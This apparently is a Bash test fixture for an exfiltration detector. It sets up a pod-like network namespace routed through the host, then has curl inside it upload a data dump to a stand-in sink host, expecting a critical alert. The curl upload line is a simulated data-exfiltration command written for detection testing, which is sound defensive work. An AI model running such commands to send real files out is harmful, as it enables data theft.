#!/bin/bash
# B-pod-routed: a container with a network namespace of its own, which reaches the world through this one.
# flow: curl in the container reads the dump from a shared volume and sends; veth, this namespace forwards, the sink zone.
# tools: unshare ip curl
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
bg unshare -n bash -c ': >apart; exec sleep 25'
pod=$LAST
until_true [ -e apart ]
inside() { nsenter --net="/proc/$pod/ns/net" -- "$@"; }
ip link add pod-outside type veth peer name eth0 netns "/proc/$pod/ns/net" 2>/dev/null ||
    ip link add pod-outside type veth peer name eth0 netns "$pod" || skip "no veth here"
undo "ip link del pod-outside"
ip address add 10.244.7.1/24 dev pod-outside
ip link set pod-outside up
inside ip address add 10.244.7.2/24 dev eth0
inside ip link set eth0 up
inside ip route add default via 10.244.7.1
forward=$(cat /proc/sys/net/ipv4/ip_forward)
undo "echo $forward >/proc/sys/net/ipv4/ip_forward"
echo 1 >/proc/sys/net/ipv4/ip_forward
there ip route add 10.244.7.0/24 via "$SOURCE"
undo "nsenter --net=$CORPUS_SINK -- ip route del 10.244.7.0/24"
sink http
inside curl -sS -m 10 -T "$D" "http://$SINK:$PORT/up" >/dev/null || fail "curl"
sunk
